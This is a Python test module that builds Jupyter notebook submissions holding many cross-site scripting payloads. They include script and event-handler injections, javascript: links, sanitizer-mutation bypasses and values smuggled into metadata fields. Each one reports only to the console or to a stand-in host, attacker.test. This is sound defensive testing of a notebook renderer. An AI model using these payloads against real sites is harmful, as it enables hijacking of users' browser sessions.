"""Ways in which a submission may try to act on the page that shows it.

Each reports its name: it writes /hit.NAME/ to the browser's console, or asks attacker.test for it.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

ATTACKER = "http://attacker.test/"
PIXEL = (  # a picture of one
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYPhfDwAChwGA60e6kgAAAABJRU5E"
    "rkJggg=="
)

# HTML as a cell's output, as the output of Markdown, and in a Markdown cell. HIT is a statement
# that reports the attack, URL an address that does.
HTML = {
    "script": "<script>HIT</script>",
    "script in capitals": "<ScRiPt >HIT</sCrIpT>",
    "script after a broken tag": '<a title="</a><script>HIT</script>',
    "img onerror": '<img src="x:" onerror="HIT">',
    "img onerror without quotes": "<img src=x: onerror=HIT>",
    "img with slashes": '<img/src="x:"/onerror="HIT">',
    "svg onload": '<svg onload="HIT"></svg>',
    "svg script": "<svg><script>HIT</script></svg>",
    "svg animate": '<svg><animate onbegin="HIT" attributeName="x" dur="1s"></svg>',
    "svg link": '<svg><a xlink:href="javascript:HIT"><text y="20">click</text></a></svg>',
    "math link": '<math><mtext href="javascript:HIT">click</mtext></math>',
    "iframe srcdoc": '<iframe srcdoc="<script>HIT</script>"></iframe>',
    "iframe data": '<iframe src="data:text/html,<script>HIT</script>"></iframe>',
    "iframe elsewhere": '<iframe src="URL"></iframe>',
    "object": '<object data="data:text/html,<script>HIT</script>"></object>',
    "embed": '<embed src="data:text/html,<script>HIT</script>">',
    "link": '<a href="javascript:HIT">click</a>',
    "link with a tab": '<a href="java&#9;script:HIT">click</a>',
    "link with a control sign": '<a href="&#1;javascript:HIT">click</a>',
    "button": '<form><button formaction="javascript:HIT">click</button></form>',
    "form": '<form action="URL"><input type=submit value=click></form>',
    "details": '<details open ontoggle="HIT">x</details>',
    "focus": '<input autofocus onfocus="HIT">',
    "mouse": '<p onmouseover="HIT">x</p>',
    "style and animation": '<style>@keyframes k{}</style><p style="animation:k 1s" '
    'onanimationstart="HIT">x</p>',
    "video": '<video><source onerror="HIT"></video>',
    "body": '<body onpageshow="HIT">',
    "refresh": '<meta http-equiv="refresh" content="0;url=URL">',
    "stylesheet": '<link rel="stylesheet" href="URL">',
    "import": "<style>@import 'URL';</style>",
    "background": '<p style="background:url(URL)">x</p>',
    "picture elsewhere": '<img src="URL">',
    "picture set": '<img srcset="URL 1x">',
    "poster": '<video poster="URL"></video>',
    "table background": '<table background="URL"><tr><td>x</td></tr></table>',
    "template": "<div><template shadowrootmode=open><img src=x: onerror=HIT></template></div>",
    "noscript": '<noscript><p title="</noscript><img src=x: onerror=HIT>"></noscript>',
    "mutation by foreign elements": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x: onerror=HIT&gt;">',
    "mutation by a comment": '<!--><img src="x:" onerror="HIT">-->',
    "mutation by a text area": '<textarea><p title="</textarea><img src=x: onerror=HIT>">',
}
MARKDOWN = {
    "markdown link": "[click](javascript:HIT)",
    "markdown link in code": "[click](&#106;avascript:HIT)",
    "markdown link by name": "[click][1]\n\n[1]: javascript:HIT",
    "markdown address": "<javascript:HIT>",
    "markdown picture": "![x](URL)",
    "markdown picture by name": "![x][1]\n\n[1]: URL",
    "markdown picture after a trap": "![`](data:image/`](URL)",
    "html after text": 'a **b** <img src="x:" onerror="HIT"> c',
    "html in a table": '|a|b|\n|-|-|\n|<img src="x:" onerror="HIT">|c|',
    "html in a list": '- a\n- <img src="x:" onerror="HIT">',
    "html in a heading": '# a <img src="x:" onerror="HIT">',
}


def _html(text: str) -> Any:
    return new_code_cell("show()", outputs=[new_output("display_data", {"text/html": text})])


def _isolated(text: str) -> Any:
    cell = _html(text)
    cell.outputs[0].metadata = {"text/html": {"isolated": True}}
    return cell


def _shown_markdown(text: str) -> Any:
    return new_code_cell("show()", outputs=[new_output("display_data", {"text/markdown": text})])


def _javascript(text: str) -> Any:
    data = {"application/javascript": text}
    return new_code_cell("show()", outputs=[new_output("display_data", data)])


def _width(text: str) -> Any:
    picture = new_output("display_data", {"image/png": PIXEL})
    picture.metadata = {"image/png": {"width": f"1 onload={text}"}}
    return new_code_cell("show()", outputs=[picture])


def _count(text: str) -> Any:
    cell = new_code_cell("1")
    cell.execution_count = f"<img src=x: onerror={text}>"
    return cell


def _language(text: str) -> Any:
    return new_code_cell("1", metadata={"magics_language": f'x"><img src=x: onerror={text}>'})


def _name(text: str) -> Any:
    marks = {"grade_id": f'x"><img src=x: onerror={text}>', "grade": True, "solution": True,
             "locked": False, "schema_version": 3, "points": 1, "score": 1}  # fmt: skip
    return new_code_cell("1", metadata={"nbgrader": marks})


PARTS: dict[str, Callable[[str], Any]] = {
    "javascript output": _javascript,
    "width of a picture": _width,
    "execution count": _count,
    "language of a cell": _language,
    "name of a graded cell": _name,
}


def attacks() -> dict[str, Any]:
    """A cell for each attack, by the attack's name."""
    cells = {}
    for name, text in HTML.items():
        cells[f"html: {name}"] = _html(_armed(text, f"html: {name}"))
        cells[f"markdown: {name}"] = new_markdown_cell(_armed(text, f"markdown: {name}"))
    for name, text in MARKDOWN.items():
        cells[name] = new_markdown_cell(_armed(text, name))
        cells[f"shown {name}"] = _shown_markdown(_armed(text, f"shown {name}"))
    for name, make in PARTS.items():
        cells[name] = make(_armed("HIT", name))
    cells["isolated html"] = _isolated(_armed("<script>HIT</script>", "isolated html"))
    return cells


def notebook(*cells: Any) -> NotebookNode:
    """A submission with these cells."""
    metadata = {"language_info": {"name": "python", "pygments_lexer": "ipython3"}}
    made = {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": list(cells)}
    return from_dict(made)  # not checked, as what students hand in


def _armed(text: str, name: str) -> str:
    name = reported(name)
    return text.replace("HIT", f"console.log(/hit.{name}/)").replace("URL", f"{ATTACKER}{name}")


def reported(name: str) -> str:
    """What is seen of an attack that works."""
    return name.replace(" ", "_").replace(":", "")
